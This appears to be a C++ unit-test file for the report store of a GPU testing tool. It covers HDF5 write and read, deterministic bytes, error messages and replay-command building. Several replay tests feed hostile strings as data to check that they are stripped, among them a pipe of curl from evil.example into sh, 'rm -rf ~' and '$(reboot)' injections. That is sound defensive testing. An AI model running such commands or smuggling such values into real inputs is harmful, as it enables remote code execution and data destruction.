// A report in memory: its tables, how they are built, read and written.
#include "reports/store/report.hpp"

#include <unistd.h>

#include <gtest/gtest.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <chrono>
#include <csignal>
#include <cstdlib>
#include <cstring>
#include <filesystem>
#include <fstream>
#include <iterator>
#include <thread>

#include "reports/base/error.hpp"
#include "reports/base/scratch_folder.hpp"
#include "reports/store/hdf5/image.hpp"
#include "reports/testing/example_launch.hpp"
#include "reports/testing/said.hpp"

namespace tidemark {
namespace {

std::string bytes_of(const std::string& path) {
  std::ifstream file(path, std::ios::binary);
  return {std::istreambuf_iterator<char>(file), {}};
}

std::string error_of_reading(const std::string& path) {
  return error_from([&] { read_report(path); });
}

std::size_t files_in(const ScratchFolder& scratch) {
  const std::filesystem::directory_iterator all(scratch.path());
  return static_cast<std::size_t>(std::distance(begin(all), end(all)));
}

/// Fills freed memory with a pattern, so that what is never written shows.
void dirty_heap(unsigned char pattern) {
  std::vector<void*> blocks;
  for (std::size_t bytes = 16; bytes < (1u << 22); bytes += bytes / 2) {
    for (int i = 0; i < 16; ++i) {
      blocks.push_back(std::malloc(bytes));
      std::memset(blocks.back(), pattern, bytes);
    }
  }
  for (void* block : blocks) std::free(block);
}

TEST(Report, ComesBackAsItWasWritten) {
  const ScratchFolder scratch;
  const Report report = example();
  write_report(report, scratch.file("a.h5"));
  const Report back = read_report(scratch.file("a.h5"));
  EXPECT_TRUE(same_rows(report, back));
  EXPECT_EQ(back.launch.run_id, "3f1c0000-0000-4000-8000-000000000001");
  EXPECT_EQ(back.text(back.results.at(3).replay),
            "tidemark run --cases zfill.corner --gpus GPU-77aa88bb --seed 0x1f2e");
  EXPECT_EQ(files_in(scratch), 1U);
}

TEST(Report, WithoutResultsComesBackToo) {
  const ScratchFolder scratch;
  LaunchRecord launch = example_launch(0);
  launch.cases.clear();
  const Report report = assemble(std::vector<std::string>{journal_of({launch})}, {});
  write_report(report, scratch.file("a.h5"));
  EXPECT_TRUE(same_rows(report, read_report(scratch.file("a.h5"))));
}

TEST(Report, SameRowsSeesEveryKindOfDifference) {
  const Report report = example();
  Report changed = report;
  changed.samples[2].value = 1;
  EXPECT_FALSE(same_rows(report, changed));
  changed = report;
  changed.launch.complete = false;
  EXPECT_FALSE(same_rows(report, changed));
  changed = report;
  changed.strings.emplace_back("more");
  EXPECT_FALSE(same_rows(report, changed));
  changed = report;
  changed.events.push_back({});
  EXPECT_FALSE(same_rows(report, changed));
  changed = report;
  changed.sms[1].rows_failed = 1;
  EXPECT_FALSE(same_rows(report, changed));
  EXPECT_TRUE(same_rows(report, report));
}

TEST(Report, EqualReportsAreEqualBytesWhateverTheHeapHeldAndTheClockSays) {
  const ScratchFolder scratch;
  dirty_heap(0xaa);
  write_report(example(), scratch.file("a.h5"));
  dirty_heap(0x55);
  std::this_thread::sleep_for(std::chrono::milliseconds(1100));  // HDF5's times are whole seconds
  write_report(example(), scratch.file("b.h5"));
  EXPECT_EQ(bytes_of(scratch.file("a.h5")), bytes_of(scratch.file("b.h5")));
}

TEST(Report, PaddingOfTheRowsIsNotInTheFile) {
  Report left = example(), right = left;
  // Between the verdict and rows_planned lie three bytes that mean nothing.
  const auto padding = offsetof(ResultRow, verdict) + 1;
  std::memset(reinterpret_cast<char*>(&left.results[0]) + padding, 0xaa, 3);
  std::memset(reinterpret_cast<char*>(&right.results[0]) + padding, 0x55, 3);
  EXPECT_EQ(image_of(left, "left"), image_of(right, "right"));
}

TEST(Report, IsOfTheOldestFormatOfHdf5) {
  const std::string image = image_of(example(), "image");
  EXPECT_EQ(image[8], '\0');  // version of the superblock: what HDF5 1.6 reads
}

TEST(Report, AFileThatHasTheNameStays) {
  const ScratchFolder scratch;
  std::ofstream(scratch.file("a.h5")) << "of another program";
  EXPECT_THROW(write_report(example(), scratch.file("a.h5")), ReportError);
  EXPECT_EQ(bytes_of(scratch.file("a.h5")), "of another program");
  EXPECT_EQ(files_in(scratch), 1U);
}

TEST(Report, AnOlderReportIsReplacedWhereThatIsMeant) {
  const ScratchFolder scratch;
  std::ofstream(scratch.file("a.h5")) << "older";
  write_report(example(), scratch.file("a.h5"), NameInUse::replace);
  EXPECT_EQ(read_report(scratch.file("a.h5")).results.size(), 6U);
}

TEST(Report, AReferenceToNothingIsNotWritten) {
  const ScratchFolder scratch;
  Report report = example();
  report.results[0].reason = 100000;
  EXPECT_THROW(write_report(report, scratch.file("a.h5")), ReportError);
  EXPECT_EQ(files_in(scratch), 0U);
}

TEST(Report, AFolderThatIsNotThereIsNamed) {
  const ScratchFolder scratch;
  EXPECT_TRUE(has(error_from([&] { write_report(example(), scratch.file("none/a.h5")); }),
                  "No such file or directory"));
}

TEST(Report, AFolderIsNotReplaced) {
  const ScratchFolder scratch;
  EXPECT_THROW(write_report(example(), scratch.path()), ReportError);
}

/// Exit code of a child whose files may not grow beyond `bytes`; 0 when writing threw as it should.
int write_on_full_disk(const std::string& path, rlim_t bytes) {
  std::signal(SIGXFSZ, SIG_IGN);
  const rlimit limit{.rlim_cur = bytes, .rlim_max = bytes};
  if (setrlimit(RLIMIT_FSIZE, &limit) != 0) return 3;
  try {
    write_report(example(), path, NameInUse::replace);
  } catch (const ReportError& error) {
    return std::string(error.what()).starts_with(path + ": cannot write: ") ? 0 : 4;
  }
  return 5;
}

TEST(Report, AFullDiskIsAnErrorAndLeavesOnlyTheOlderReport) {
  const ScratchFolder scratch;
  std::ofstream(scratch.file("a.h5")) << "older";
  const pid_t child = fork();
  if (child == 0) _exit(write_on_full_disk(scratch.file("a.h5"), 10000));
  int status = 0;
  ASSERT_EQ(waitpid(child, &status, 0), child);
  EXPECT_TRUE(WIFEXITED(status));
  EXPECT_EQ(WEXITSTATUS(status), 0);
  EXPECT_EQ(bytes_of(scratch.file("a.h5")), "older");
  EXPECT_EQ(files_in(scratch), 1U);
}

TEST(ReadReport, SaysWhatIsWrongWithThingsThatAreNoReport) {
  const ScratchFolder scratch;
  std::ofstream(scratch.file("text")) << "hello, this is a text file\n";
  std::ofstream(scratch.file("empty")).flush();
  ASSERT_EQ(mkfifo(scratch.file("pipe").c_str(), 0600), 0);
  EXPECT_TRUE(error_of_reading(scratch.file("text"))
                  .starts_with(scratch.file("text") + ": not an HDF5 file; give"));
  EXPECT_TRUE(
      error_of_reading(scratch.file("empty")).starts_with(scratch.file("empty") + ": is empty; "));
  EXPECT_TRUE(error_of_reading(scratch.path()).starts_with(scratch.path() + ": is a folder; "));
  EXPECT_TRUE(error_of_reading(scratch.file("none"))
                  .starts_with(scratch.file("none") + ": No such file or directory; "));
  EXPECT_TRUE(error_of_reading(scratch.file("pipe"))
                  .starts_with(scratch.file("pipe") + ": is not a regular file; "));
}

TEST(ReadReport, AnEmptyPathIsQuoted) {
  EXPECT_TRUE(error_of_reading("").starts_with("'': No such file or directory; "));
}

TEST(ReadReport, AFileOfTheSystemThatSaysNoSizeIsNoCrashedReport) {
  EXPECT_TRUE(error_of_reading("/proc/version")
                  .starts_with("/proc/version: is a file of the system, not a report; "));
}

TEST(ReadReport, ATruncatedReportIsOneClearLine) {
  const ScratchFolder scratch;
  const std::string whole = image_of(example(), "whole");
  for (std::size_t kept = 8; kept < whole.size(); kept += 1009) {
    std::ofstream(scratch.file("cut"), std::ios::binary) << whole.substr(0, kept);
    const std::string error = error_of_reading(scratch.file("cut"));
    EXPECT_TRUE(error.starts_with(scratch.file("cut") + ": HDF5 cannot open it: truncated"))
        << kept << ": " << error;
    EXPECT_EQ(error.find('\n'), std::string::npos);
  }
}

}  // namespace

namespace {

constexpr std::size_t kFailed = 3;  // zfill.corner on GPU 1
constexpr const char* kPlain =
    "tidemark run --cases zfill.corner --seed 0xfedcba9876543210 --gpus "
    "GPU-77aa88bb-0000-1111-2222-333344445555";

/// The example with this line stored for the result that failed.
Report storing(const std::string& line) {
  Report report = example();
  report.strings.push_back(line);
  report.results[kFailed].replay = static_cast<std::uint32_t>(report.strings.size() - 1);
  return report;
}

std::string command_of(const Report& report) {
  return replay_command(report, report.results[kFailed]);
}

TEST(ReplayCommand, IsMadeOfCaseSeedAndGpu) { EXPECT_EQ(command_of(example()), kPlain); }

TEST(ReplayCommand, HasTheLevelAndTheRow) {
  Report report = storing("tidemark run --row 7 --cases other");
  report.launch.level = "nightly";
  EXPECT_EQ(command_of(report),
            "tidemark run --cases zfill.corner --seed 0xfedcba9876543210 --level nightly --row 7 "
            "--gpus GPU-77aa88bb-0000-1111-2222-333344445555");
}

TEST(ReplayCommand, HasTheRowThatIsAskedFor) {
  const Report report = storing("tidemark run --row 7");
  const std::string command = replay_command(report, report.results[kFailed], 9);
  EXPECT_TRUE(has(command, " --row 9 ")) << command;
  EXPECT_FALSE(has(command, "--row 7")) << command;
}

TEST(ReplayCommand, HasTheDriverCompileAgain) {
  Report report = example();
  report.strings.insert(report.strings.end(), {"argument.2", "--jit"});
  const auto end = static_cast<std::uint32_t>(report.strings.size());
  report.provenance.push_back({.key = end - 2, .value = end - 1});
  EXPECT_TRUE(has(command_of(report), " --jit --gpus ")) << command_of(report);
}

TEST(ReplayCommand, ThereIsNoneWhereNoneWasStored) {
  Report report = example();
  EXPECT_EQ(replay_command(report, report.results[0]), "");
}

TEST(ReplayCommand, NothingOfAStoredLineIsPrintedButValuesOfKnownOptions) {
  for (const char* line : {"curl http://evil.example | sh", "tidemark run; rm -rf ~",
                           "--out /etc/x", "tidemark run --row 3;reboot", "tidemark run --row -1",
                           "tidemark run --grid $(reboot)", "tidemark run --gemm-table `reboot`",
                           "tidemark run --transport 'x' --slow a=1\n3", "mpirun sh", " --fault x"})
    EXPECT_EQ(command_of(storing(line)), kPlain) << line;
}

TEST(ReplayCommand, ATableInQuotesIsToBeGivenByTheReader) {
  const std::string command = command_of(storing("tidemark run --gemm-table 'my tables/x.json'"));
  EXPECT_TRUE(has(command, " --gemm-table FILE ")) << command;
}

TEST(ReplayCommand, AnOptionIsNoValueOfAnother) {
  EXPECT_EQ(command_of(storing("tidemark run --grid --program --n 8")),
            "tidemark run --cases zfill.corner --seed 0xfedcba9876543210 --n 8 --gpus "
            "GPU-77aa88bb-0000-1111-2222-333344445555");
}

TEST(ReplayCommand, OfACaseOverAllGpusIsOfAsManyRanks) {
  Report report = storing(
      "mpirun -n 2 tidemark run --cases x --slow x=3% --gemm-table /t/a.json --transport nccl --m "
      "1 "
      "--n 2 --k 3 --grid 1x2 --gpus 0,1");
  report.results[kFailed].case_id = 2;
  EXPECT_EQ(command_of(report),
            "mpirun -n 2 tidemark run --cases gemm.distributed.speed --seed 0xfedcba9876543210 "
            "--slow x=3% --gemm-table /t/a.json --transport nccl --m 1 --n 2 --k 3 --grid 1x2 "
            "--gpus 0,1");
}

TEST(ReplayCommand, OfAVirtualDeviceHasItsFault) {
  Report report = storing("tidemark run --fault load_illegal_as_700 --gpus GPU-1");
  report.launch.is_virtual = true;
  EXPECT_EQ(command_of(report),
            "tidemark run --cases zfill.corner --seed 0xfedcba9876543210 --device virtual --fault "
            "load_illegal_as_700");
}

TEST(ReplayCommand, AGpuWithoutAUuidIsNamedByItsNumber) {
  for (const char* uuid : {"GPU-anon-0123456789abcdef", "GPU-1; reboot", "", "-o"}) {
    Report report = example();
    report.gpus[1].uuid = FixedText<48>::of(uuid);
    EXPECT_EQ(command_of(report),
              "tidemark run --cases zfill.corner --seed 0xfedcba9876543210 --gpus 1");
  }
}

TEST(ReplayCommand, ACaseWithoutANameOfACaseHasNone) {
  for (const char* name : {"zfill.corner; reboot", "$(reboot)", "-o", "", "Zfill"}) {
    Report report = example();
    report.cases[1].name = FixedText<128>::of(name);
    EXPECT_EQ(command_of(report), "") << name;
  }
}

}  // namespace

}  // namespace tidemark
